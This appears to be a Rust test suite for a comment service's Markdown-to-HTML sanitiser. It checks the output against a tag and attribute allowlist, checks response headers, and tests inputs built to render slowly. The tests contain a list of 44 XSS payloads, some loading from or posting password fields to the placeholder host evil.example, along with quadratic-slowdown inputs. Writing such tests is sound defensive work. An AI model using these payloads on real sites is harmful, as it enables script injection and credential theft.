//! Hostile Markdown: what comes out as `html` is inert, whoever shows it.

use caplet_testing::json;

use crate::stage::{TARGET, host, items, path, read, send, write};

/// The tags that may come out, and the attributes each may have.
const TAGS: [(&str, &[&str]); 19] = [
    ("a", &["href", "title", "rel"]),
    ("blockquote", &[]),
    ("br", &[]),
    ("code", &[]),
    ("del", &[]),
    ("em", &[]),
    ("h1", &[]),
    ("h2", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("h5", &[]),
    ("h6", &[]),
    ("hr", &[]),
    ("li", &[]),
    ("ol", &["start"]),
    ("p", &[]),
    ("pre", &[]),
    ("strong", &[]),
    ("ul", &[]),
];

const ATTACKS: [&str; 44] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://a.example\" onclick=\"alert(1)\">x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<form action=\"https://evil.example\"><input name=password></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div style=\"position:fixed;inset:0;background:url(javascript:alert(1))\">x</div>",
    "<style>@import '//evil.example/x.css'</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml <script>alert(1)</script> ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<\u{1}javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example/)",
    "![x](javascript:alert(1))",
    "![\"onerror=alert(1) x=\"](https://a.example/x.png \"\\\"onload=alert(1)\")",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://a.example \"\\\"><script>alert(1)</script>\")",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
];

/// Reads one tag, `name` and then ` attribute="value"` as often as there are, up to its `>`, and
/// returns what comes after it. The sanitiser writes no other form.
fn read_tag<'a>(tag: &'a str, html: &str) -> &'a str {
    let tag = tag.strip_prefix('/').unwrap_or(tag);
    let end = tag.find([' ', '>', '/']).unwrap_or_else(|| panic!("a tag has no end: {html}"));
    let (name, mut rest) = tag.split_at(end);
    let allowed = TAGS.iter().find(|(tag, _)| *tag == name);
    let (_, attributes) = allowed.unwrap_or_else(|| panic!("the tag {name:?} came out: {html}"));
    while let Some(attribute) = rest.strip_prefix(' ') {
        let (name, value) = attribute.split_once("=\"").expect("an attribute has a quoted value");
        let (value, after) = value.split_once('"').expect("a value ends in a quote");
        assert!(attributes.contains(&name), "the attribute {name:?} came out: {html}");
        assert_is_harmless(name, value, html);
        rest = after;
    }
    rest.strip_prefix('>').unwrap_or_else(|| panic!("{rest:?} in a tag: {html}"))
}

fn assert_is_harmless(attribute: &str, value: &str, html: &str) {
    let harmless = match attribute {
        "href" => ["https://", "http://", "mailto:"].iter().any(|scheme| value.starts_with(scheme)),
        "rel" => value == "nofollow ugc noopener",
        "start" => value.bytes().all(|byte| byte.is_ascii_digit()),
        _ => true,
    };
    assert!(harmless, "{attribute}={value:?} came out: {html}");
}

/// Every `<` must begin one of the allowed tags with their allowed attributes.
fn assert_inert(html: &str) {
    let mut rest = html;
    while let Some((_, tag)) = rest.split_once('<') {
        rest = read_tag(tag, html);
    }
}

#[tokio::test]
async fn hostile_markdown_is_inert_wherever_it_is_shown() {
    let host = host().await;
    let ada = host.user("ada");
    let first = write(&ada, "first").await;
    for attack in ATTACKS {
        for body in
            [attack.to_owned(), format!("> {attack}"), format!("1. a *{attack}* `{attack}`")]
        {
            let written = write(&ada, &body).await;
            assert_eq!(written["body"], body, "the text itself is kept");
            assert_inert(written["html"].as_str().unwrap());
        }
        let edit = ada.patch(&path(&first)).json(&json!({ "body": attack }));
        let edited = edit.send().await.expect_status(200);
        assert_inert(edited.json()["html"].as_str().unwrap());
    }
    let page = read(&ada, "/api/comments?target=post:1&limit=100").await;
    assert_eq!(items(&page).len(), 100);
    for comment in items(&page) {
        assert_inert(comment["html"].as_str().unwrap());
    }
}

#[tokio::test]
async fn honest_markdown_is_rendered() {
    let host = host().await;
    let ada = host.user("ada");
    for (body, html) in [
        (
            "# Title\n\n- *a*\n- ~~b~~",
            "<h1>Title</h1>\n<ul>\n<li><em>a</em></li>\n<li><del>b</del></li>\n</ul>\n",
        ),
        ("1 < 2 && \"x\"", "<p>1 &lt; 2 &amp;&amp; \"x\"</p>\n"),
        ("a <b>bold</b>", "<p>a &lt;b&gt;bold&lt;/b&gt;</p>\n"),
        (
            "[x](https://a.example/?a=1&b=2)",
            "<p><a href=\"https://a.example/?a=1&amp;b=2\" rel=\"nofollow ugc noopener\">x</a></p>\n",
        ),
    ] {
        assert_eq!(write(&ada, body).await["html"], html);
    }
}

#[tokio::test]
async fn an_answer_is_never_taken_for_a_page() {
    let host = host().await;
    let written = write(&host.user("ada"), "<script>alert(1)</script>").await;
    let answer = host.get(&path(&written)).send().await;
    assert_eq!(answer.header("content-type"), Some("application/json"));
    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
}

/// Texts of which 10 000 characters are slow to render where something takes the square of the time.
const SLOW_PARTS: [&str; 22] = [
    ">", "> ", "- ", "1. ", "> - ", "- a\n ", "[", "![", "[a](", "[](", "[^", "*a ", "**_", "a**b",
    "~~", "`a``", "<", "<a ", "<!--", "<?", "&#", "\\",
];

#[tokio::test]
async fn texts_made_to_be_slow_are_rendered_in_time() {
    let host = host().await;
    let ada = host.user("ada");
    for part in SLOW_PARTS {
        let body = part.repeat(10_000 / part.len());
        let answer = send(&ada, json!({ "target": TARGET, "body": body })).await;
        assert_eq!(answer.status(), 201, "{part:?}: {answer}");
        assert_inert(answer.json()["html"].as_str().unwrap());
    }
}
